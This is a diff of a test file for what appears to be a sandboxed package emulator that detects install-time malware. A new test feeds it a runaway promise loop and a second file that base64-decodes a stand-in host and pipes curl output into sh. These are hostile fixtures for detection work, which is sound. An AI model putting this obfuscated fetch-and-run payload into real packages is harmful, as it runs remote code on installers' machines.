@@ -57,10 +57,10 @@ afterAll(async () => {
   rmSync(dir, { recursive: true, force: true });
 });
 
-function hostile(src: string, extra: Record<string, string> = {}, budget = { perFileMs: PER_RUN, totalMs: 3 * PER_RUN * SLACK }) {
+function hostile(src: string, extra: Record<string, string> = {}, budget = { perFileMs: PER_RUN, totalMs: 3 * PER_RUN * SLACK }, entries = ['index.js']) {
   const files = new Map(Object.entries({ 'package.json': '{"name":"hostile","version":"1.0.0"}', 'index.js': src, ...extra }));
   const t0 = performance.now();
-  const r = emulatePackage({ files, manifest: { name: 'hostile' }, entries: [{ file: 'index.js', reach: 'install' }], budget });
+  const r = emulatePackage({ files, manifest: { name: 'hostile' }, entries: entries.map((file) => ({ file, reach: 'install' as const })), budget });
   return { ...r, wall: performance.now() - t0, trace: JSON.stringify(r.effects) };
 }
 
@@ -96,6 +96,20 @@ describe("QuickJS's own faults", () => {
     expect(res.status, res.stderr).toBe(0);
     expect(JSON.parse(res.stdout.trim().split('\n').pop()!).length).toBeGreaterThan(0);
     expect(res.stderr).not.toMatch(/Aborted|Assertion failed/);
+  });
+});
+
+describe('a run that leaves the sandbox unusable', () => {
+  // Otherwise a package could put one sandbox-breaking file first and its real decoder second.
+  it('does not blind the entries after it: they run in a fresh sandbox', () => {
+    const r = hostile('const f = () => Promise.resolve().then(f); f();', {
+      'b.js': 'const u = Buffer.from("aHR0cDovL2Ryb3AuZXhhbXBsZS5pbnZhbGlkL3g=", "base64").toString(); require("child_process").execSync("curl " + u + " | sh");',
+    }, { perFileMs: PER_RUN, totalMs: 6 * PER_RUN * SLACK }, ['index.js', 'b.js']);
+    expect(r.runs.find((x) => x.entry === 'index.js')?.status).not.toBe('done');
+    expect(r.runs.filter((x) => x.entry === 'b.js').map((x) => x.status)).toContain('done');
+    expect(r.runs.some((x) => x.entry === 'b.js' && x.error === 'sandbox unavailable')).toBe(false);
+    expect(r.effects.some((e) => e.file === 'b.js' && e.kind === 'exec' && /drop\.example\.invalid/.test(e.evidence))).toBe(true);
+    expect(r.partial).toBe(true);
   });
 });
 
